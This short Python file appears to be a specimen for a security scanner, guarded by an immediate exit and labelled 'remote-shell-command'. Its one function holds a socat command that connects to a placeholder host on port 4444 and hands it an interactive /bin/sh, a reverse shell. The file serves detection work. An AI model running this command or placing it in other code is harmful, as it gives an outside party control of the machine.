raise SystemExit("specimen: not to be run")
from subprocess import call as c

def begin():
    c(["socat", "tcp-connect:example.invalid:4444", "exec:/bin/sh,pty"])  # match: remote-shell-command
